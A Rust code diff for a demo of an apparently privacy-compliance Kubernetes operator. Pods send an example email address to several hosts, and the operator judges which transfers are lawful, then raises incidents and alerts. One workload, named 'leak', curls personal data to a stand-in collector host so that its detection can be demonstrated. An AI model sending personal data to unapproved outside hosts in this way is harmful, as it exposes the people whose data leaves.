@@ -1,9 +1,18 @@
-//! `make demo-cluster`: two nodes, the example agreement, operator and agents as pods, pods with real clients.
+//! `make demo-cluster`: two nodes, the example agreement, operator and agents as pods, pods with real clients, and
+//! whoever is on call.
 #![expect(clippy::print_stdout, reason = "shows what a person would see")]
 
 use std::{error::Error, time::Instant};
 
-use landfall_tests::story::{Client, Story};
+use landfall_tests::story::{Client, Monitoring, Story};
+use serde_json::Value;
+
+const DEVELOPMENT: &str = include_str!("../../examples/developments/dpf-annulled.yaml");
+const WORKLOADS: [(&str, &str, &str); 3] = [
+    ("assistant", "node-eu", "https://eu.api.openai.com/v1/chat"),
+    ("messaging", "node-us", "https://api.twilio.com/messages"),
+    ("leak", "node-us", "http://collector.stranger.example/contacts"),
+];
 
 #[tokio::main]
 async fn main() -> Result<(), Box<dyn Error>> {
@@ -12,34 +21,89 @@ async fn main() -> Result<(), Box<dyn Error>> {
     say("Two nodes, node-eu (eu-central-1) and node-us (us-east-1); CRDs, agreement, operator and agents");
     let (story, _providers) = Story::begin().await?;
     println!("{}", story.cluster.kubectl(&["get", "pods", "-n", "landfall-system", "-o", "wide"], "")?);
+    let monitoring = Monitoring::start(&story)?;
 
     say("Workloads of the namespace crm, which consents to the agreement, send data");
-    for (name, node, host) in [
-        ("assistant", "node-eu", "https://eu.api.openai.com/v1/chat"),
-        ("messaging", "node-us", "https://api.twilio.com/messages"),
-        ("leak", "node-us", "http://collector.stranger.example/contacts"),
-    ] {
+    let mut clients = Vec::new();
+    for (name, node, url) in WORKLOADS {
         let client = Client::start(&story, name, node)?;
-        let send = format!(
-            "curl -sk --retry 20 --retry-delay 1 --retry-all-errors -d email=jane.roe@example.org -o /dev/null {host}"
-        );
-        client.run(&story, &send)?;
-        println!("crm/Deployment/{name} on {node} -> {host}");
+        send(&story, &client, url)?;
+        println!("crm/Deployment/{name} on {node} -> {url}");
+        clients.push(client);
     }
 
-    say("The register in the cluster: kubectl get agr,sub,tb -A");
-    println!("{}", story.cluster.kubectl(&["get", "agr,sub,tb", "-A"], "")?);
-
-    say("What was judged, from the ledger: landfall ledger show");
-    let shown = story.wait_for("judged edges", || {
-        let shown = story.ledger("show", &[]).map_err(|error| error.to_string())?;
-        let all = ["openai", "twilio", "stranger.example"].iter().all(|name| shown.contains(name));
-        if all { Ok(shown) } else { Err(shown) }
+    say("What goes where, and whether it may: kubectl get agr,sub,tr,inc -A");
+    await_transfer(&story, "stranger", "Unlawful")?;
+    await_transfer(&story, "twilio", "Conditional")?;
+    story.wait_for("the clocks of an Incident", || {
+        let incidents = story.cluster.kubectl(&["get", "incidents", "-A"], "").map_err(|error| error.to_string())?;
+        if incidents.contains("Running") { Ok(()) } else { Err(incidents) }
     })?;
-    println!("{shown}");
+    println!("{}", story.cluster.kubectl(&["get", "agr,sub,tr,inc", "-A"], "")?);
 
-    say("Events: kubectl get events -n privacy");
-    println!("{}", story.cluster.kubectl(&["get", "events", "-n", "privacy", "--sort-by=.lastTimestamp"], "")?);
+    say("Why, with article and clause: kubectl landfall explain");
+    println!("{}", story.plugin(&["explain", "--namespace", "crm", &transfer(&story, "stranger")?])?);
+    say("Until when: kubectl landfall deadlines");
+    println!("{}", story.plugin(&["deadlines", "-A"])?);
+
+    say("What whoever is on call was sent");
+    let sent = story
+        .wait_for("a notification", || monitoring.notifications().pop().ok_or_else(|| "none so far".to_owned()))?;
+    println!("{}", notification(&sent));
+
+    say(
+        "The Court annuls the Data Privacy Framework (made up): kubectl apply -f examples/developments/dpf-annulled.yaml",
+    );
+    story.cluster.kubectl(&["apply", "-f", "-"], DEVELOPMENT)?;
+    await_transfer(&story, "twilio", "Unlawful")?;
+    println!("{}", story.cluster.kubectl(&["get", "tr,inc", "-A"], "")?);
     say("Done; taking it down");
     Ok(())
+}
+
+fn send(story: &Story, client: &Client, url: &str) -> Result<(), Box<dyn Error>> {
+    let send = "curl -sk --retry 20 --retry-delay 1 --retry-all-errors -d email=jane.roe@example.org -o /dev/null";
+    client.run(story, &format!("{send} {url}"))?;
+    Ok(())
+}
+
+/// Waits until the Transfer to a recipient has that verdict.
+fn await_transfer(story: &Story, recipient: &str, verdict: &str) -> Result<(), Box<dyn Error>> {
+    story.wait_for("a verdict", || {
+        let transfers = story.cluster.kubectl(&["get", "tr", "-A"], "").map_err(|error| error.to_string())?;
+        let there = transfers.lines().any(|line| line.contains(recipient) && line.contains(verdict));
+        if there { Ok(()) } else { Err(transfers) }
+    })?;
+    Ok(())
+}
+
+/// Name of the Transfer to a recipient.
+fn transfer(story: &Story, recipient: &str) -> Result<String, Box<dyn Error>> {
+    let names = story.cluster.kubectl(&["get", "tr", "-n", "crm", "-o", "name"], "")?;
+    let name = names.lines().find(|name| name.contains(recipient)).ok_or("no such Transfer")?;
+    Ok(name.rsplit('/').next().unwrap_or(name).to_owned())
+}
+
+/// As a person would read it.
+fn notification(sent: &Value) -> String {
+    let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
+    let group = &sent["groupLabels"];
+    let mut lines = vec![format!(
+        "{}: agreement {}/{}",
+        text(&sent["status"]),
+        text(&group["agreement_namespace"]),
+        text(&group["agreement"])
+    )];
+    for alert in sent["alerts"].as_array().into_iter().flatten() {
+        let annotations = &alert["annotations"];
+        lines.push(format!(
+            "- {} [{}] {}",
+            text(&alert["labels"]["alertname"]),
+            text(&alert["labels"]["severity"]),
+            text(&annotations["summary"])
+        ));
+        lines.push(format!("  {}", text(&annotations["description"])));
+        lines.push(format!("  {}", text(&annotations["runbook_url"])));
+    }
+    lines.join("\n")
 }
